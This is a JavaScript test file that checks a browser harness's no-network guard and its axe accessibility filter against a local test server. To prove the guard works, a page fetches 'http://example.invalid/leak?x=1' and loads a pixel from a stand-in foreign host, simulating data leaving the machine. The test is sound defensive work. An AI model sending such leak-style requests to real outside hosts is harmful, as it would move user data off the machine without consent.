// The harness's own gates, shown to fail when they should: the no-network
// guard (a page that reaches for a host off this machine has the request
// stopped and recorded, and assertNoForeignRequests fails the test) and the
// axe check (serious and critical violations are returned, milder ones
// not). Without this, a guard that recorded nothing or an axe filter that
// dropped everything would pass every page.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import {
  launchBrowser, guardedContext, assertNoForeignRequests, axeSerious, stopAll,
} from './harness.mjs';

let browser;
let site;

before(async () => {
  browser = await launchBrowser();
  site = await new Promise((resolve) => {
    const s = createServer((req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      if (req.url === '/bad') {
        // A button with no name and an image with no alt (critical), an
        // empty heading and text outside any landmark (minor, moderate).
        res.end('<!DOCTYPE html><html lang="en"><title>bad</title>'
          + '<main><button></button><img src="data:,"></main><h2></h2><p>outside</p></html>');
      } else {
        res.end('<!DOCTYPE html><title>guard</title><p>local</p>');
      }
    });
    s.listen(0, '127.0.0.1', () => resolve(s));
  });
});

after(async () => {
  await new Promise((r) => site?.close(r) ?? r());
  await stopAll();
});

// A page on loopback that fetches `foreignUrl` and loads an image from
// another foreign host; returns what the guard recorded.
async function reachOut(intercept) {
  const { context, blocked } = await guardedContext(browser, {}, { intercept });
  try {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${site.address().port}/`);
    const fetched = await page.evaluate(async () => {
      try {
        await fetch('http://example.invalid/leak?x=1');
        return 'reached';
      } catch {
        return 'failed';
      }
    });
    assert.equal(fetched, 'failed', 'a foreign fetch must not succeed');
    await page.evaluate(() => new Promise((resolve) => {
      const img = new Image();
      img.onload = resolve;
      img.onerror = resolve;
      img.src = 'https://cdn.example.invalid/pixel.png';
    }));
    assert.equal(await page.getByText('local').count(), 1, 'the loopback page itself loads');
    return blocked;
  } finally {
    await context.close();
  }
}

for (const intercept of [true, false]) {
  test(`a foreign request is caught (intercept: ${intercept})`, async () => {
    const blocked = await reachOut(intercept);
    assert.ok(blocked.some((u) => u.startsWith('http://example.invalid/leak')), blocked.join(', '));
    assert.ok(blocked.some((u) => u.startsWith('https://cdn.example.invalid/')), blocked.join(', '));
    assert.ok(blocked.every((u) => !u.includes('127.0.0.1')), blocked.join(', '));
    assert.throws(() => assertNoForeignRequests(blocked), /requests left the machine: .*example\.invalid/);
  });
}

test('axeSerious returns the serious and critical violations only', async () => {
  const { context } = await guardedContext(browser);
  try {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${site.address().port}/bad`);
    const bad = await axeSerious(page);
    assert.ok(bad.some((v) => v.startsWith('button-name:')), bad.join('; '));
    assert.ok(bad.some((v) => v.startsWith('image-alt:')), bad.join('; '));
    assert.ok(!bad.some((v) => v.startsWith('region:') || v.startsWith('empty-heading:')), bad.join('; '));
  } finally {
    await context.close();
  }
});
